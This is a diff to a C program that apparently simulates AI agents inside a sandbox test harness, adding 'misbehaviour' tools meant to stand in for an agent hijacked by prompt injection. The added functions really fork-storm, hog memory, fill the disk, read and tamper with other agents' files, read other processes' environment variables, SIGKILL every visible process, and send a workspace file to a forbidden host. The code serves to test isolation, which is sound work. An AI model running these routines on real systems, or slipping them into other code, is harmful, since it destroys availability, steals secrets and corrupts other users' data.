@@ -15,10 +15,24 @@
  *                  a subprocess: cat obj/... | wc -c
  *   search WORD    walk the workspace, count lines holding WORD
  *
+ * and the misbehaviours a trace can ask for (docs/agents.md), each printing
+ * "misbehave KIND START_NS END_NS WHAT" of what it achieved:
+ *
+ *   forkbomb N US  fork N children that sleep US then exec /bin/true
+ *   memhog MIB     malloc and touch MIB MiB, kept
+ *   fillfs MIB     write WORKSPACE/fill.bin until ENOSPC (at most MIB MiB)
+ *   snoop          read and append to the files of other workspaces under /work
+ *   probe          list /proc, read other processes' cmdline and environ
+ *   killer         the same, and SIGKILL every process found
+ *   exfil IP PORT  connect to a forbidden peer and send a workspace file
+ *   spin M         a runaway loop of M million iterations
+ *   flood          nothing here: the trace's huge prompts hammer the server
+ *
  * It prints "ready NS" once its hello is sent (NS since main), one line per
  * finished task "task I START_NS END_NS MODEL_NS TOOL_NS KERNEL_NS" (model: waiting
  * for replies; tool: running tools; kernel: system time of it and its children,
- * getrusage), and at exit "maxrss KB".
+ * getrusage), and at exit "maxrss KB" and "errors N" (tools that failed for want of a
+ * resource: fork, pipe, create, a short write).
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -26,6 +40,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <netinet/in.h>
+#include <signal.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -45,6 +60,15 @@
 #define NS_PER_US 1000LL
 #define PATH_BYTES 512
 #define BUILD_SUFFIX_BYTES 8 /* the "object" a compile writes: a checksum of the source */
+#define MIB (1L << 20)
+#define PAGE_BYTES 4096
+#define FILL_CHUNK_BYTES (64 * 1024)
+#define PROC_READ_BYTES 4096
+#define SPIN_UNIT 1000000L /* spin's argument counts millions of loop iterations */
+
+/* Tools that failed for want of a resource (fork, pipe, create, short write): what
+ * another agent's misbehaviour can do to this one, printed at exit as "errors N". */
+static long tool_errors;
 
 static long long now_ns(void) {
     struct timespec ts;
@@ -121,9 +145,18 @@ static size_t append(char *out, size_t used, const char *fmt, const char *text) 
 /* Run /bin/sh -c CMD in the workspace; its stdout and stderr into out. */
 static size_t run_shell(const char *cmd, char *out) {
     int fds[2];
-    if (pipe(fds) != 0)
+    if (pipe(fds) != 0) {
+        tool_errors++;
         return append(out, 0, "pipe failed: %s\n", strerror(errno));
+    }
     pid_t pid = fork();
+    if (pid < 0) {
+        int err = errno;
+        close(fds[0]);
+        close(fds[1]);
+        tool_errors++;
+        return append(out, 0, "fork failed: %s\n", strerror(err));
+    }
     if (pid == 0) {
         dup2(fds[1], 1);
         dup2(fds[1], 2);
@@ -183,8 +216,10 @@ static size_t tool_write(const char *rel, long bytes, char *out) {
         }
         fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
     }
-    if (fd < 0)
+    if (fd < 0) {
+        tool_errors++;
         return append(out, 0, "write %s: cannot create\n", rel);
+    }
     char line[128];
     long written = 0;
     for (long i = 0; written < bytes; i++) {
@@ -192,7 +227,11 @@ static size_t tool_write(const char *rel, long bytes, char *out) {
                          i * 7);
         if (written + n > bytes)
             n = (int)(bytes - written);
-        write_all(fd, line, (size_t)n);
+        if (write_all(fd, line, (size_t)n) != 0) {
+            tool_errors++;
+            close(fd);
+            return append(out, 0, "write %s: short write\n", rel);
+        }
         written += n;
     }
     close(fd);
@@ -208,6 +247,11 @@ static size_t tool_patch(const char *rel, long target, char *out) {
     if (in == NULL)
         return append(out, 0, "patch %s: no such file\n", rel);
     FILE *o = fopen(tmp, "w");
+    if (o == NULL) {
+        fclose(in);
+        tool_errors++;
+        return append(out, 0, "patch %s: cannot create a temporary\n", rel);
+    }
     char line[LINE_MAX_BYTES];
     long number = 0, patched = 0;
     while (fgets(line, sizeof line, in) != NULL) {
@@ -219,7 +263,11 @@ static size_t tool_patch(const char *rel, long target, char *out) {
         }
     }
     fclose(in);
-    fclose(o);
+    if (fclose(o) != 0) { /* the flush failed: a full disk */
+        tool_errors++;
+        unlink(tmp);
+        return append(out, 0, "patch %s: cannot write\n", rel);
+    }
     rename(tmp, path);
     return append(out, 0, patched ? "patched %s\n" : "patch %s: line out of range\n", rel);
 }
@@ -299,6 +347,236 @@ static long search_dir(const char *dir_path, const char *word, long *files) {
     return hits;
 }
 
+/* ---- Misbehaviours: what a prompt injection or a bug makes the agent do ----------
+ * Each is a tool kind of the trace (cofferos.sim.agents.misbehave), really done with
+ * system calls in the agent's own container, and each prints what it achieved:
+ * "misbehave KIND START_NS END_NS KEY=VALUE..." (observed, not assumed). */
+
+static long long misbehave_start;
+
+static size_t report(char *out, const char *kind, const char *fmt, long a, long b, long c) {
+    char what[256];
+    snprintf(what, sizeof what, fmt, a, b, c);
+    printf("misbehave %s %lld %lld %s\n", kind, misbehave_start, now_ns(), what);
+    fflush(stdout); /* kept if a policy kills the agent later */
+    return append(out, 0, "%s\n", what);
+}
+
+/* fork N children, each sleeps HOLD_US then execs /bin/true: a fork and exec storm. */
+static size_t bad_forkbomb(long n, long hold_us, char *out) {
+    long forked = 0, failed = 0;
+    for (long i = 0; i < n; i++) {
+        pid_t pid = fork();
+        if (pid == 0) {
+            sleep_ns(hold_us * NS_PER_US);
+            execl("/bin/true", "true", (char *)NULL);
+            _exit(127);
+        }
+        if (pid < 0)
+            failed++;
+        else
+            forked++;
+    }
+    while (wait(NULL) > 0) {
+    }
+    return report(out, "forkbomb", "forked=%ld failed=%ld asked=%ld", forked, failed, n);
+}
+
+/* Map and touch MIB MiB, a MiB at a time, and keep it: a memory hog. */
+static size_t bad_memhog(long mib, char *out) {
+    long touched = 0;
+    for (; touched < mib; touched++) {
+        char *chunk = malloc(MIB);
+        if (chunk == NULL)
+            break;
+        for (long off = 0; off < MIB; off += PAGE_BYTES)
+            chunk[off] = 1;
+    }
+    return report(out, "memhog", "touched_mib=%ld asked_mib=%ld errno=%ld", touched, mib,
+                  touched < mib ? errno : 0);
+}
+
+/* Write a workspace file until ENOSPC (or MIB MiB): filling the disk. */
+static size_t bad_fillfs(long mib, char *out) {
+    char path[PATH_BYTES];
+    ws_path(path, "fill.bin");
+    static char chunk[FILL_CHUNK_BYTES];
+    memset(chunk, 'x', sizeof chunk);
+    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+    long written = 0, err = 0;
+    if (fd < 0)
+        err = errno;
+    size_t size = sizeof chunk;
+    while (fd >= 0 && written < mib * MIB) {
+        ssize_t n = write(fd, chunk, size);
+        if (n <= 0) {
+            err = n < 0 ? errno : ENOSPC;
+            if (size == 1)
+                break;
+            size /= 2; /* fill the last bytes too, as dd to a full disk does */
+            continue;
+        }
+        written += n;
+    }
+    if (fd >= 0)
+        close(fd);
+    return report(out, "fillfs", "written_kib=%ld asked_mib=%ld errno=%ld", written / 1024,
+                  mib, err);
+}
+
+/* Read the files of every other agent's workspace under /work, and append to them. */
+static size_t bad_snoop(char *out) {
+    long read_files = 0, changed = 0, seen = 0;
+    DIR *work = opendir("/work");
+    const char *mine = strrchr(workspace, '/');
+    struct dirent *e;
+    while (work != NULL && (e = readdir(work)) != NULL) {
+        if (e->d_name[0] == '.' || (mine != NULL && strcmp(e->d_name, mine + 1) == 0))
+            continue;
+        seen++;
+        char src[PATH_BYTES];
+        snprintf(src, sizeof src, "/work/%.64s/src", e->d_name);
+        DIR *dir = opendir(src);
+        struct dirent *f;
+        while (dir != NULL && (f = readdir(dir)) != NULL) {
+            if (f->d_name[0] == '.')
+                continue;
+            char path[PATH_BYTES * 2], buf[LINE_MAX_BYTES];
+            snprintf(path, sizeof path, "%s/%s", src, f->d_name);
+            int fd = open(path, O_RDONLY);
+            if (fd >= 0) {
+                if (read(fd, buf, sizeof buf) > 0) {
+                    read_files++;
+                    printf("snooped read %s\n", path);
+                }
+                close(fd);
+            }
+            fd = open(path, O_WRONLY | O_APPEND);
+            if (fd >= 0) {
+                if (write(fd, "/* injected */\n", 15) == 15) {
+                    changed++;
+                    printf("snooped changed %s\n", path);
+                }
+                close(fd);
+            }
+        }
+        if (dir != NULL)
+            closedir(dir);
+    }
+    if (work != NULL)
+        closedir(work);
+    return report(out, "snoop", "workspaces=%ld read=%ld changed=%ld", seen, read_files,
+                  changed);
+}
+
+/* The total of /proc/loadavg's fourth field ("running/total"): the kernel's tasks. */
+static long kernel_tasks(void) {
+    char buf[256] = {0};
+    int fd = open("/proc/loadavg", O_RDONLY);
+    if (fd < 0)
+        return -1;
+    ssize_t n = read(fd, buf, sizeof buf - 1);
+    close(fd);
+    char *slash = n > 0 ? strchr(buf, '/') : NULL;
+    return slash != NULL ? atol(slash + 1) : -1;
+}
+
+/* List /proc, read every other process's cmdline and environ; with kill, SIGKILL it. */
+static size_t bad_proc(int kill_them, char *out) {
+    long pids = 0, cmdlines = 0, environs = 0, killed = 0;
+    pid_t me = getpid();
+    DIR *proc = opendir("/proc");
+    struct dirent *e;
+    while (proc != NULL && (e = readdir(proc)) != NULL) {
+        char *end;
+        long pid = strtol(e->d_name, &end, 10);
+        if (*end != '\0' || pid <= 0 || pid == me)
+            continue;
+        pids++;
+        const char *files[] = {"cmdline", "environ"};
+        for (int i = 0; i < 2; i++) {
+            char path[PATH_BYTES], buf[PROC_READ_BYTES];
+            snprintf(path, sizeof path, "/proc/%ld/%s", pid, files[i]);
+            int fd = open(path, O_RDONLY);
+            if (fd < 0)
+                continue;
+            ssize_t n = read(fd, buf, sizeof buf);
+            close(fd);
+            if (n > 0) {
+                if (i == 0)
+                    cmdlines++;
+                else
+                    environs++;
+                printf("probed %s %.*s\n", path, (int)strnlen(buf, (size_t)n), buf);
+            }
+        }
+        if (kill_them && kill((pid_t)pid, SIGKILL) == 0)
+            killed++;
+    }
+    if (proc != NULL)
+        closedir(proc);
+    long tasks = kernel_tasks();
+    printf("probed tasks %ld\n", tasks);
+    if (kill_them)
+        return report(out, "killer", "pids=%ld killed=%ld tasks=%ld", pids, killed, tasks);
+    return report(out, "probe", "pids=%ld readable=%ld tasks=%ld", pids, cmdlines + environs,
+                  tasks);
+}
+
+/* Connect to a host the agent should not reach and send it the workspace's files. */
+static size_t bad_exfil(const char *host, long port, char *out) {
+    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
+    long connected = 0, sent = 0, err = 0;
+    int fd = socket(AF_INET, SOCK_STREAM, 0);
+    if (inet_pton(AF_INET, host, &addr.sin_addr) != 1)
+        err = EINVAL;
+    else if (connect(fd, (struct sockaddr *)&addr, sizeof addr) == 0) {
+        connected = 1;
+        char buf[LINE_MAX_BYTES];
+        size_t n = tool_read("src/f0.c", buf);
+        if (write_all(fd, buf, n) == 0)
+            sent = (long)n;
+    } else
+        err = errno;
+    close(fd);
+    return report(out, "exfil", "connected=%ld sent=%ld errno=%ld", connected, sent, err);
+}
+
+/* A runaway loop: spin MILLIONS x 10^6 iterations of user work, no system call. */
+static size_t bad_spin(long millions, char *out) {
+    volatile unsigned long sink = 0;
+    for (long i = 0; i < millions * SPIN_UNIT; i++)
+        sink += (unsigned long)i;
+    return report(out, "spin", "iterations=%ld sum=%ld unused=%ld", millions * SPIN_UNIT,
+                  (long)(sink & 1), 0);
+}
+
+/* The misbehaviours by kind; 0 if KIND is none of them. */
+static size_t misbehave(const char *kind, char *arg, char *num, char *out, int *known) {
+    *known = 1;
+    misbehave_start = now_ns();
+    if (strcmp(kind, "forkbomb") == 0)
+        return bad_forkbomb(arg ? atol(arg) : 0, num ? atol(num) : 0, out);
+    if (strcmp(kind, "memhog") == 0)
+        return bad_memhog(arg ? atol(arg) : 0, out);
+    if (strcmp(kind, "fillfs") == 0)
+        return bad_fillfs(arg ? atol(arg) : 0, out);
+    if (strcmp(kind, "snoop") == 0)
+        return bad_snoop(out);
+    if (strcmp(kind, "probe") == 0)
+        return bad_proc(0, out);
+    if (strcmp(kind, "killer") == 0)
+        return bad_proc(1, out);
+    if (strcmp(kind, "exfil") == 0)
+        return bad_exfil(arg ? arg : "0.0.0.0", num ? atol(num) : 0, out);
+    if (strcmp(kind, "spin") == 0)
+        return bad_spin(arg ? atol(arg) : 0, out);
+    if (strcmp(kind, "flood") == 0) /* the trace's huge prompts are the flood */
+        return report(out, "flood", "request=%ld unused=%ld unused=%ld", 1, 0, 0);
+    *known = 0;
+    return 0;
+}
+
 static size_t run_tool(char *tool, char *out) {
     char *kind = strtok(tool, " ");
     char *rest = strtok(NULL, "");
@@ -310,6 +588,10 @@ static size_t run_tool(char *tool, char *out) {
         return tool_build(out);
     char *arg = rest ? strtok(rest, " ") : NULL;
     char *num = rest ? strtok(NULL, " ") : NULL;
+    int known;
+    size_t bad = misbehave(kind, arg, num, out, &known);
+    if (known)
+        return bad;
     if (arg == NULL)
         return append(out, 0, "%s: missing argument\n", kind);
     if (strcmp(kind, "read") == 0)
@@ -415,6 +697,7 @@ int main(int argc, char **argv) {
     struct rusage self;
     getrusage(RUSAGE_SELF, &self);
     printf("maxrss %ld\n", self.ru_maxrss);
+    printf("errors %ld\n", tool_errors);
     return 0;
 }
 
